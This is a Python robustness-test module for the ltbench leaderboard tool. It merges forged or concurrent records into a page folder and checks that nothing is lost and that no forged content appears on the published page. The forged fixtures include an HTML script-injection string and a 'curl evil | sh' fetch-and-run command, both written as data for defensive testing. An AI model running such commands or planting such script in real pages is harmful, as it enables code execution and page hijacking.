"""Attacks: each function tries one kind and returns what was tried, survived and lost. Here are those on folders of records.

    PYTHONPATH=tests python -m faults.attacks FOLDER 20 6

prints the table of all, each 20 times, and behind these words those of the attacks whose names follow. All take hours; `.ci/run`
runs each once, as slow tests. With the checkout of another commit in $ATTACKED, the commands are those of that commit.
"""

from __future__ import annotations

import itertools
import os
import sys
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any

from faults.attacks_by_environment import environments
from faults.attacks_by_techniques import failing_techniques, leaking_techniques
from faults.attacks_on_files import deleted_stores, full_disks, huge_lines, interrupted_commands
from faults.attacks_on_runs import concurrent_runs, struck_runs
from faults.attacks_on_stores import foreign_artefacts, two_users
from faults.attacks_on_workers import late_workers, open_workers, workers_of_another_version
from faults.fuzz import fuzz
from faults.tally import Tally, page_fits, started
from synthetic import COLUMNS, identified, provenance, raw, record, verification, write_jsonl

from ltbench.errors import raised
from ltbench.leaderboard.publish import write_folder
from ltbench.leaderboard.suite_facts import SuiteFacts
from ltbench.records.record import Record
from ltbench.records.records_file import invalidate, read_records_file, records_file, records_path
from ltbench.records.tuning_file import FILE as TUNING
from ltbench.records.tuning_file import Trial, TunedRow, write_tuning
from ltbench.records.verifications import FILE as VERIFIED
from ltbench.records.verifications import write_verifications

LEADERBOARDS = Path(__file__).parents[2] / "leaderboards"


def page_of(folder: Path, records: Sequence[Record]) -> Path:
    """Write a small page without figures."""
    folder.mkdir(parents=True, exist_ok=True)
    write_folder(folder, SuiteFacts(name=folder.name, columns=COLUMNS, figures=()), records_file(records))
    return folder


def concurrent_merges(root: Path, rounds: int, writers: int) -> Tally:
    """Merge records from several processes at once into one folder; none may be missing, and the page fits them."""
    lost = []
    for number in range(rounds):
        home = root / f"merges-{number}"
        page = page_of(home / "leaderboards" / "board", [record(seed=99)])
        for seed in range(writers):
            write_jsonl(home / f"{seed}.jsonl", [record(seed=seed)])
        running = [started("merge", f"{seed}.jsonl", "--into", str(page), cwd=home) for seed in range(writers)]
        outputs = [one.communicate() for one in running]
        found = {each.setting.seed for each in read_records_file(records_path(page)).records}
        missing = sorted({*range(writers), 99} - found)
        codes = [one.returncode for one in running]
        if missing or not page_fits(page) or any(codes):
            lost.append(f"round {number}: seeds {missing} are missing, exit codes {codes}, {outputs[0][1][-200:]}")
    return Tally("merges of one folder at once", rounds, lost)


def concurrent_withdrawals(root: Path, rounds: int, writers: int) -> Tally:
    """Withdraw cells, merge others and update pages at once; every withdrawal and every record stays."""
    lost = []
    for number in range(rounds):
        home = root / f"withdrawals-{number}"
        records = [record(seed=seed) for seed in range(writers)]
        page = page_of(home / "leaderboards" / "board", records)
        write_jsonl(home / "more.jsonl", [record(seed=99)])
        running = [started("invalidate", one.id, "--reason", "leak", cwd=home) for one in records[: writers - 2]]
        running.append(started("merge", "more.jsonl", "--into", str(page), cwd=home))
        running.append(started("leaderboard", "--update", cwd=home))
        outputs = [one.communicate() for one in running]
        content = read_records_file(records_path(page))
        kept = {each.id for each in content.all_records} >= {one.id for one in [*records, record(seed=99)]}
        codes = [one.returncode for one in running]
        if len(content.invalidations) != writers - 2 or not kept or not page_fits(page) or any(codes):
            lost.append(
                f"round {number}: {len(content.invalidations)} of {writers - 2} withdrawals, "
                f"exit codes {codes}, {outputs[0][1][-200:]}"
            )
    return Tally("withdrawals, merges and updates at once", rounds, lost)


def forged() -> dict[str, Callable[[Path, Sequence[Record]], None]]:
    """Return what a stranger may send, as functions that write it into a folder, given the records of the page."""

    def ground(folder: Path, mine: Sequence[Record]) -> None:
        changes = {"plugins": [provenance("convnet", "model", distribution="evil-package")]}
        tries = (record(seed=0, cost={"train_seconds": number}, **changes) for number in itertools.count())
        page_of(folder, [next(one for one in tries if one.digest < mine[0].digest)])

    def version(**changes: object) -> Callable[[Path, Sequence[Record]], None]:
        def write(folder: Path, mine: Sequence[Record]) -> None:
            made: Any = raw(scores={"top1": 0.999})
            made["fits"][0]["model"] |= changes
            page_of(folder, [identified(made)])

        return write

    def training(folder: Path, mine: Sequence[Record]) -> None:
        made: Any = raw(scores={"top1": 0.999})
        made["fits"][0]["segments"][0]["lr_scale"] = 2.0
        page_of(folder, [identified(made)])

    def numbers(folder: Path, mine: Sequence[Record]) -> None:
        page_of(folder, [record(seed=0, scores={"top1": 0.999})])

    def withdrawal(folder: Path, mine: Sequence[Record]) -> None:
        write_folder(
            folder, SuiteFacts(name="board", columns=COLUMNS), records_file(mine, [invalidate(mine[0], "evil")])
        )

    def texts(folder: Path, mine: Sequence[Record]) -> None:
        evil = "evil <script>alert(1)</script>"
        facts = SuiteFacts(
            name="board", title=evil, question=evil, notes=evil, command="curl evil | sh", columns=COLUMNS
        )
        write_folder(folder, facts, records_file([record(seed=7)]))

    def claims(folder: Path, mine: Sequence[Record]) -> None:
        page_of(folder, mine)
        write_verifications(folder / VERIFIED, [verification(mine, ltbench="evil")])

    def tuned(folder: Path, mine: Sequence[Record]) -> None:
        page_of(folder, [record(seed=7)])
        one, setting = mine[0], mine[0].setting
        trial = Trial(values={}, cells=[one.id], score=0.9)
        row = TunedRow(dataset=setting.dataset, profile=setting.profile, model=setting.model, imbalance_factor=100.0, tuned_at=100.0,
                       combination=one.combination, recipe=one.recipe | {"lr": 0.7}, metric="held_out.top1", held_out=0.1, sampler="evil",
                       asked=3, trials=[trial], chosen=0, cells=[one.id], passes=1.0, passes_of_row=1.0)  # fmt: skip
        write_tuning(folder / TUNING, [row])

    return {
        "the same numbers with a ground digest": ground, "a revision that is not installed": version(revision=99),
        "a technique of another package": version(distribution="zzz"), "another training of a row": training,
        "other numbers of a cell": numbers, "a withdrawal": withdrawal, "texts and commands": texts,
        "a forged verification": claims, "a tuned row of my cell": tuned,
    }  # fmt: skip


def forged_merges(root: Path, rounds: int, writers: int) -> Tally:
    """Merge what strangers send; my records stay as they are, and nothing of it is on my page. writers: not used."""
    lost, tried = [], 0
    for number, (name, write) in itertools.product(range(rounds), forged().items()):
        home = root / f"forged-{number}" / name.replace(" ", "-")
        mine = [record(seed=seed) for seed in (0, 1)]
        page = page_of(home / "leaderboards" / "board", mine)
        write(home / "theirs" / "board", mine)
        process = started("merge", "theirs/board", "--into", str(page), cwd=home)
        error = process.communicate()[1]
        content, text = read_records_file(records_path(page)), (page / "README.md").read_text()
        kept = all(one in content.records for one in mine)
        shown = [word for word in ("evil", "99.9", "Verified", "<script", "curl") if word in text]
        tried += 1
        if not kept or shown or process.returncode not in (0, 1) or "Traceback" in error or not page_fits(page):
            lost.append(f"{name}: kept {kept}, on the page {shown}, exit code {process.returncode} {error[-200:]}")
    return Tally("records, texts and claims of strangers, merged", tried, lost)


def forged_pages(root: Path, rounds: int, writers: int) -> Tally:
    """Run all commands that read on mutated pages, ten for each round. writers: not used."""
    found: list[str] = []
    counts = {"commands": 0}
    for page in ("report-park-fast", "quick-tuned", "probe"):
        of_page = fuzz(root / page, LEADERBOARDS / page, 10 * rounds, seed=rounds, tell=found.append)
        counts["commands"] += of_page["commands"]
    return Tally("commands on mutated pages", counts["commands"], found)


ATTACKS = (
    concurrent_merges,
    concurrent_withdrawals,
    concurrent_runs,
    forged_merges,
    forged_pages,
    failing_techniques,
    leaking_techniques,
    open_workers,
    late_workers,
    workers_of_another_version,
    environments,
    interrupted_commands,
    deleted_stores,
    foreign_artefacts,
    two_users,
    full_disks,
    huge_lines,
    struck_runs,
)
IN_THIS_PROCESS = {forged_pages, open_workers, late_workers, workers_of_another_version, struck_runs}
"""Attacks that call ltbench without a command."""


def main(argv: Sequence[str]) -> int:
    """Print the table; return 1 if anything was lost. argv: a scratch folder, rounds, writers at once, and names, if not of all."""
    root, rounds, writers, chosen = Path(argv[0]), int(argv[1]), int(argv[2]), argv[3:]
    named = {attack.__name__: attack for attack in ATTACKS}
    if unknown := set(chosen) - named.keys():
        raise SystemExit(f"unknown: {', '.join(sorted(unknown))}; there are: {', '.join(named)}")
    lost = 0
    for attack in [named[name] for name in chosen] or ATTACKS:
        if attack in IN_THIS_PROCESS and "ATTACKED" in os.environ:
            tally = Tally(attack.__name__, 0, [], "it calls the ltbench of this checkout")
        else:
            try:
                tally = attack(root, rounds, writers)
            except Exception as error:  # the others are tried, and this one counts as lost
                tally = Tally(attack.__name__, 1, [f"it did not run to its end: {raised(error)}"])
        lost += len(tally.lost)
        sys.stdout.write(f"{tally}\n")
        sys.stdout.flush()
    return int(lost > 0)


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
